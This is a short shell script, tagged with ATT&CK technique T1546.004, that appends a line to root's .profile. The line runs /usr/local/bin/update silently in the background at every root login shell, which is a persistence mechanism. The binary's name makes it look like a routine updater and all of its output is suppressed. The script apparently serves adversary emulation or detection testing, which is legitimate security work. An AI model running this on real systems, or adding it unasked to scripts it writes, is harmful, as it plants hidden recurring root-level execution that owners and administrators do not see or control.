#!/bin/sh
# T1546.004: a line appended to root's shell profile, run at every login shell.
echo "/usr/local/bin/update >/dev/null 2>&1 &" >> /root/.profile
